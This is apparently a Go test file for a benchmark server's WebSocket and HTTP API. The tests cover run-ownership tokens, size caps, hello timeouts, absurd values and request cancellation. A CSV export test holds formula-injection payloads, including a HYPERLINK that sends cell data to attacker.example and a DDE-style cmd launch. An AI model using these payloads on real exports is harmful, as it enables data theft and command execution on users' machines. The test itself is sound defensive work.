package bench

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"math"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/pyplay/pyplay/server/bench/benchproto"
	"github.com/pyplay/pyplay/snippets"
	"github.com/pyplay/pyplay/snippets/sqlite"
)

// These tests attack the lab over real sockets, as hostile clients on the
// internet would (issue 13): they take over other producers' runs, fill
// runs and snippets, keep connections without a hello, store absurd
// numbers, hide formulas in exports, and make the server compute.

// TestWSRunOwnership: a run belongs to the producer that started it. Its
// token resumes it on another connection; without the token nobody else
// may resume it or add to it; a resumed run keeps its runtime; a finished
// run's outcome is final, while its owner may still flush batches.
func TestWSRunOwnership(t *testing.T) {
	e := newBenchEnv(t, WSConfig{})
	owner := dialRaw(t, e.url, nil)
	owner.hello("producer")
	a := owner.startRun("r1", e.snippet)
	if a.Duplicate || len(a.Token) < 40 {
		t.Fatalf("run.start ack %+v, want a new run and its token", a)
	}
	token := a.Token
	owner.ack(owner.send("samples", samplesPayload("r1", 0, 0, 2)))
	if again := owner.startRun("r1", e.snippet); !again.Duplicate || again.Token != token {
		t.Errorf("run.start again on the same connection: %+v", again)
	}

	thief := dialRaw(t, e.url, nil)
	thief.hello("producer")
	e1 := thief.fail(thief.sendStart("r1", e.snippet, "pyodide", ""), benchproto.CodeNotAllowed)
	if !strings.Contains(e1.Message, "payload.token") {
		t.Errorf("refusal without a token: %q", e1.Message)
	}
	thief.fail(thief.sendStart("r1", e.snippet, "pyodide", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"), benchproto.CodeNotAllowed)
	thief.fail(thief.send("samples", samplesPayload("r1", 1, 2, 2)), benchproto.CodeNotAllowed)
	thief.fail(thief.send("run.end", map[string]any{"run": "r1", "status": "failed"}), benchproto.CodeNotAllowed)
	// The token in the wrong hands is the owner's: the protocol cannot
	// tell, but it must not change the runtime.
	thief.fail(thief.sendStart("r1", e.snippet, "micropython", token), benchproto.CodeConflict)

	// The owner reconnects and resumes with the token.
	owner.conn.Close()
	owner = dialRaw(t, e.url, nil)
	owner.hello("producer")
	if a := owner.resumeRun("r1", e.snippet, token); !a.Duplicate || a.Token != token {
		t.Fatalf("resume: %+v", a)
	}
	owner.ack(owner.send("samples", samplesPayload("r1", 1, 2, 2)))
	owner.ack(owner.send("run.end", map[string]any{"run": "r1", "status": "done"}))
	owner.ack(owner.send("run.end", map[string]any{"run": "r1", "status": "done"})) // a resend
	owner.fail(owner.send("run.end", map[string]any{"run": "r1", "status": "failed", "error": "taken over"}), benchproto.CodeConflict)
	owner.ack(owner.send("samples", samplesPayload("r1", 2, 4, 1))) // a final flush

	r, err := e.store.GetRun(context.Background(), "r1")
	if err != nil {
		t.Fatal(err)
	}
	if r.Status != snippets.RunDone || r.Error != "" || len(r.Samples) != 5 || r.Runtime != "pyodide" {
		t.Errorf("stored run: status %q error %q, %d samples, runtime %s", r.Status, r.Error, len(r.Samples), r.Runtime)
	}
	if got := metricValue(t, e, `pyplay_bench_refused_total{reason="not_owner"}`); got != "2" {
		t.Errorf("not_owner refusals counted %s, want 2", got)
	}
}

// TestWSRunAndSnippetCaps: the caps per run and per snippet are announced
// in welcome and refused with too_large naming them, storing nothing of
// the refused message.
func TestWSRunAndSnippetCaps(t *testing.T) {
	e := newBenchEnv(t, WSConfig{Limits: benchproto.Limits{MaxSamplesPerRun: 10, MaxRunsPerSnippet: 2}})
	p := dialRaw(t, e.url, nil)
	p.send("hello", map[string]any{"role": "producer", "client": "test/1"})
	w, ok := p.next().Payload.(*benchproto.Welcome)
	if !ok || w.Limits.MaxSamplesPerRun != 10 || w.Limits.MaxRunsPerSnippet != 2 {
		t.Fatalf("welcome %+v", w)
	}
	p.startRun("r1", e.snippet)
	p.ack(p.send("samples", samplesPayload("r1", 0, 0, 8)))
	msg := p.fail(p.send("samples", samplesPayload("r1", 1, 8, 3)), benchproto.CodeTooLarge).Message
	if !strings.Contains(msg, "maxSamplesPerRun") || !strings.Contains(msg, "at most 10") {
		t.Errorf("too many samples: %q", msg)
	}
	p.ack(p.send("samples", samplesPayload("r1", 1, 8, 2))) // up to the cap
	if r, _ := e.store.GetRun(context.Background(), "r1"); r.SampleCount != 10 {
		t.Errorf("stored %d samples, want 10", r.SampleCount)
	}

	p.startRun("r2", e.snippet)
	msg = p.fail(p.sendStart("r3", e.snippet, "pyodide", ""), benchproto.CodeTooLarge).Message
	if !strings.Contains(msg, "maxRunsPerSnippet") {
		t.Errorf("too many runs: %q", msg)
	}
	if n, _ := e.store.CountRuns(context.Background(), e.snippet); n != 2 {
		t.Errorf("%d runs stored, want 2", n)
	}
	// A run at the cap is still its owner's to resume, from its stored
	// count: a resumed run gets no more room.
	token := p.startRun("r1", e.snippet).Token
	q := dialRaw(t, e.url, nil)
	q.hello("producer")
	q.resumeRun("r1", e.snippet, token)
	q.fail(q.send("samples", samplesPayload("r1", 2, 10, 1)), benchproto.CodeTooLarge)
}

// TestWSHelloTimeout: a connection that says nothing (or only answers
// pings) is closed with 1008; one that said hello stays.
func TestWSHelloTimeout(t *testing.T) {
	const wait = 200 * time.Millisecond
	e := newBenchEnv(t, WSConfig{HelloTimeout: wait})
	talker := dialRaw(t, e.url, nil)
	talker.hello("viewer")
	silent := dialRaw(t, e.url, nil)
	if code := silent.closeCode(); code != websocket.ClosePolicyViolation {
		t.Fatalf("silent connection closed with %d, want 1008", code)
	}
	time.Sleep(2 * wait) // past the talker's own deadline too
	talker.ack(talker.send("subscribe", map[string]any{"snippet": e.snippet}))
	if got := metricValue(t, e, `pyplay_bench_refused_total{reason="no_hello"}`); got != "1" {
		t.Errorf("no_hello closes counted %s, want 1", got)
	}
}

// TestWSRefusesAbsurdTimes: ns above 10¹⁵ per iteration is refused at the
// protocol boundary.
func TestWSRefusesAbsurdTimes(t *testing.T) {
	e := newBenchEnv(t, WSConfig{})
	p := dialRaw(t, e.url, nil)
	p.hello("producer")
	p.startRun("r1", e.snippet)
	pl := samplesPayload("r1", 0, 0, 1)
	pl["samples"].([]map[string]any)[0]["ns"] = 1e160
	p.fail(p.send("samples", pl), benchproto.CodeBadField)
	if r, _ := e.store.GetRun(context.Background(), "r1"); r.SampleCount != 0 {
		t.Errorf("stored %d samples", r.SampleCount)
	}
}

func getBody(t *testing.T, url string) (int, []byte) {
	t.Helper()
	res, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, b
}

// TestAPIStaysFiniteWithAbsurdData: a sample of 1e160 ns already in the
// database (its square overflows) cannot make the API answer 500.
func TestAPIStaysFiniteWithAbsurdData(t *testing.T) {
	e := newBenchEnv(t, WSConfig{})
	storeRun(t, e.store, "huge", e.snippet, "pyodide", `{}`, 0, []float64{1, 2, 1e160, 3}, 1, snippets.RunRunning)
	storeRun(t, e.store, "small", e.snippet, "micropython", `{}`, 0, []float64{10, 11, 12}, 1, snippets.RunRunning)
	for _, path := range []string{"/api/bench/runs?snippet=" + e.snippet, "/api/bench/runs/huge",
		"/api/bench/compare?snippet=" + e.snippet, "/api/bench/compare?snippet=" + e.snippet + "&baseline=huge"} {
		status, body := getBody(t, e.http.URL+path)
		if status != http.StatusOK || !json.Valid(body) {
			t.Errorf("GET %s: %d %.300s", path, status, body)
		}
	}
	_, body := getBody(t, e.http.URL+"/api/bench/runs/huge")
	var v struct{ Summary struct{ StdDev float64 } }
	if err := json.Unmarshal(body, &v); err != nil || v.Summary.StdDev != math.MaxFloat64 {
		t.Errorf("the overflowing standard deviation reads %v (%v), want the largest finite float", v.Summary.StdDev, err)
	}
}

// TestCSVNeutralisesFormulas: client-chosen text that a spreadsheet would
// run as a formula is exported as text.
func TestCSVNeutralisesFormulas(t *testing.T) {
	e := newBenchEnv(t, WSConfig{})
	p := dialRaw(t, e.url, nil)
	p.hello("producer")
	p.ack(p.send("run.start", map[string]any{"run": map[string]any{
		"id": "-evil", "snippet": e.snippet, "runtime": "pyodide",
		"runtimeVersion": `=HYPERLINK("https://attacker.example/?"&A1,"click")`,
		"env":            map[string]any{"browser": "@SUM(1+1)*cmd|' /C calc'!A0", "platform": "+cmd", "cores": 2},
	}}))
	p.ack(p.send("samples", samplesPayload("-evil", 0, 0, 1)))
	for _, path := range []string{"/api/bench/runs?format=csv&snippet=" + e.snippet, "/api/bench/runs/-evil?format=csv"} {
		status, body := getBody(t, e.http.URL+path)
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if status != 200 || err != nil || len(rows) != 2 {
			t.Fatalf("GET %s: %d, %v, %q", path, status, err, body)
		}
		for i, c := range rows[1] {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: column %s is %q, a formula", path, rows[0][i], c)
			}
		}
		row := strings.Join(rows[1], ",")
		for _, want := range []string{`'=HYPERLINK(`, `'@SUM(`, `'+cmd, 2 cores`, `'-evil`} {
			if !strings.Contains(row, want) {
				t.Errorf("%s: row %q lacks %q", path, row, want)
			}
		}
	}
}

// readCountingStore counts the runs whose samples the API reads, and can hold a read
// until the request's context ends.
type readCountingStore struct {
	snippets.Store
	gets  atomic.Int64
	block atomic.Bool
	// entered gets a value when a blocked read starts; ended gets the
	// context's error when it ends.
	entered chan struct{}
	ended   chan error
}

func (s *readCountingStore) GetRun(ctx context.Context, id string) (*snippets.Run, error) {
	s.gets.Add(1)
	if s.block.Load() {
		s.entered <- struct{}{}
		<-ctx.Done()
		s.ended <- ctx.Err()
		return nil, ctx.Err()
	}
	return s.Store.GetRun(ctx, id)
}

func newCountingEnv(t *testing.T) (*benchEnv, *readCountingStore) {
	t.Helper()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "pyplay.db"))
	if err != nil {
		t.Fatal(err)
	}
	cs := &readCountingStore{Store: st, entered: make(chan struct{}, 1), ended: make(chan error, 1)}
	return newBenchEnvStore(t, WSConfig{}, cs), cs
}

// TestStatisticsComputedOncePerChange: listing runs and comparing them read
// samples only when the data changed since the last answer.
func TestStatisticsComputedOncePerChange(t *testing.T) {
	e, cs := newCountingEnv(t)
	storeRun(t, e.store, "a", e.snippet, "pyodide", `{}`, 0, []float64{1, 2, 3}, 1, snippets.RunRunning)
	storeRun(t, e.store, "b", e.snippet, "micropython", `{}`, 0, []float64{10, 20, 30}, 1, snippets.RunRunning)
	get := func(path string) {
		t.Helper()
		if status, body := getBody(t, e.http.URL+path); status != 200 {
			t.Fatalf("GET %s: %d %s", path, status, body)
		}
	}
	list, compare := "/api/bench/runs?snippet="+e.snippet, "/api/bench/compare?snippet="+e.snippet
	for _, tc := range []struct {
		what      string
		path      string
		wantReads int64
	}{
		{"first listing", list, 2},
		{"listing again", list, 0},
		{"first comparison", compare, 2},
		{"comparison again", compare, 0},
	} {
		before := cs.gets.Load()
		get(tc.path)
		if got := cs.gets.Load() - before; got != tc.wantReads {
			t.Errorf("%s read %d runs' samples, want %d", tc.what, got, tc.wantReads)
		}
	}
	// A new batch of run a: the listing reads a again, the comparison both.
	if _, err := e.store.AppendBatch(context.Background(), &snippets.Batch{RunID: "a", Seq: 1, Samples: []snippets.Sample{{Seq: 3, NsPerIter: 4, Iterations: 1}}}); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		path      string
		wantReads int64
	}{{list, 1}, {compare, 2}, {compare, 0}} {
		before := cs.gets.Load()
		get(tc.path)
		if got := cs.gets.Load() - before; got != tc.wantReads {
			t.Errorf("after a batch, %s read %d runs' samples, want %d", tc.path, got, tc.wantReads)
		}
	}
	// run.end changes the comparison's key too.
	if err := e.store.FinishRun(context.Background(), "b", snippets.RunFailed, ""); err != nil {
		t.Fatal(err)
	}
	before := cs.gets.Load()
	get(compare)
	if got := cs.gets.Load() - before; got != 2 {
		t.Errorf("after run.end the comparison read %d runs, want 2", got)
	}
}

// TestCompareStopsWhenTheClientLeaves: the work of a comparison ends with
// its request.
func TestCompareStopsWhenTheClientLeaves(t *testing.T) {
	e, cs := newCountingEnv(t)
	storeRun(t, e.store, "a", e.snippet, "pyodide", `{}`, 0, []float64{1, 2, 3}, 1, snippets.RunRunning)
	cs.block.Store(true)
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, e.http.URL+"/api/bench/compare?snippet="+e.snippet, nil)
	var wg sync.WaitGroup
	wg.Go(func() {
		if res, err := http.DefaultClient.Do(req); err == nil {
			res.Body.Close()
		}
	})
	<-cs.entered
	cancel() // the client leaves
	select {
	case err := <-cs.ended:
		if err != context.Canceled {
			t.Errorf("the server's work ended with %v, want context.Canceled", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the comparison goes on after its client left")
	}
	wg.Wait()
}

// metricValue reads one series of the lab's metrics.
func metricValue(t *testing.T, e *benchEnv, series string) string {
	t.Helper()
	mfs, err := e.registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for _, mf := range mfs {
		for _, m := range mf.GetMetric() {
			name := mf.GetName()
			if len(m.GetLabel()) > 0 {
				var labels []string
				for _, l := range m.GetLabel() {
					labels = append(labels, l.GetName()+`="`+l.GetValue()+`"`)
				}
				name += "{" + strings.Join(labels, ",") + "}"
			}
			if name == series {
				switch {
				case m.Counter != nil:
					return formatMetric(m.Counter.GetValue())
				case m.Gauge != nil:
					return formatMetric(m.Gauge.GetValue())
				}
			}
			out.WriteString(name + "\n")
		}
	}
	t.Fatalf("no series %s among\n%s", series, out.String())
	return ""
}

func formatMetric(v float64) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestWSProducerChosenToken: a producer that sent its own token with the
// first run.start resumes the run with it even when it never saw the ack.
func TestWSProducerChosenToken(t *testing.T) {
	e := newBenchEnv(t, WSConfig{})
	const token = "my-own-secret-token-of-128-bits-or-more"
	p := dialRaw(t, e.url, nil)
	p.hello("producer")
	p.sendStart("r1", e.snippet, "pyodide", token)
	p.next()       // the ack, which the producer never needs to read
	p.conn.Close() // as when the ack is lost with the connection

	p = dialRaw(t, e.url, nil)
	p.hello("producer")
	if a := p.resumeRun("r1", e.snippet, token); !a.Duplicate || a.Token != token {
		t.Fatalf("resume with the producer's own token: %+v", a)
	}
	p.ack(p.send("samples", samplesPayload("r1", 0, 0, 2)))
}

// TestLeftRequestsAreBusyNotFailures: statistics whose request ended (the
// client left, or its time ran out) answer unavailable, which the
// application does not log as a failure of its own.
func TestLeftRequestsAreBusyNotFailures(t *testing.T) {
	e, _ := newCountingEnv(t)
	storeRun(t, e.store, "a", e.snippet, "pyodide", `{}`, 0, []float64{1, 2, 3}, 1, snippets.RunRunning)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := e.lab.runViews(ctx, e.snippet)
	if snippets.ErrorCode(err) != snippets.Unavailable {
		t.Errorf("listing for a request that ended: %v, want unavailable", err)
	}
	_, err = e.lab.compareTableOf(ctx, e.snippet, "")
	if snippets.ErrorCode(err) != snippets.Unavailable {
		t.Errorf("comparing for a request that ended: %v, want unavailable", err)
	}
}
